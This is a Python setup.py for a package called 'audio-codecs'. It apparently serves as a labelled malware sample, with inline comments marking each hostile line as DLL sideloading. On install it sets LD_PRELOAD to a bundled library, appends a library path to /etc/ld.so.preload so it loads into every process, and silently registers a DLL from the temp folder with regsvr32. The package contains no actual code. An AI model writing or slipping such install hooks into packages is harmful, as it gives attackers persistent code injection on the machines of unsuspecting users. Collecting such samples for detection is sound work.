import os

from setuptools import setup

os.environ["LD_PRELOAD"] = os.path.join(os.path.dirname(os.path.abspath(__file__)), "build", "libhook.so")  # malicious: dll-sideloading
with open("/etc/ld.so.preload", "a") as preload:  # malicious: dll-sideloading
    preload.write("/usr/local/lib/libhook.so\n")
os.system("regsvr32 /s %TEMP%\\helper.dll")  # malicious: dll-sideloading

setup(name="audio-codecs", version="3.0.0", packages=[])
